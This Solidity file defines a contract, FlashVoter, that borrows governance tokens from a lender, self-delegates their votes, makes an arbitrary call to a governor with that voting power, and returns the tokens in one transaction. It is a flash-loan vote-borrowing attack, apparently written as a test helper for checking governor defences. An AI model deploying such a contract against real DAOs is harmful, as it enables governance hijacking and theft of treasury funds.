// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IGovernor} from "@openzeppelin/contracts/governance/IGovernor.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {IVotes} from "@openzeppelin/contracts/governance/utils/IVotes.sol";

/// @dev Borrows votes from whoever allows it, and gives the tokens back before the transaction ends.
contract FlashVoter {
    IGovernor private immutable GOVERNOR;
    address private immutable TOKEN;

    constructor(IGovernor governor, address token) {
        GOVERNOR = governor;
        TOKEN = token;
    }

    /// @dev Borrows `amount`, makes `call` to the governor with the votes of it, and returns what was borrowed.
    function attack(address lender, uint256 amount, bytes calldata call) external {
        IERC20(TOKEN).transferFrom(lender, address(this), amount);
        IVotes(TOKEN).delegate(address(this));

        (bool done, bytes memory answer) = address(GOVERNOR).call(call);
        if (!done) {
            assembly ("memory-safe") {
                revert(add(answer, 32), mload(answer))
            }
        }

        IERC20(TOKEN).transfer(lender, amount);
    }
}
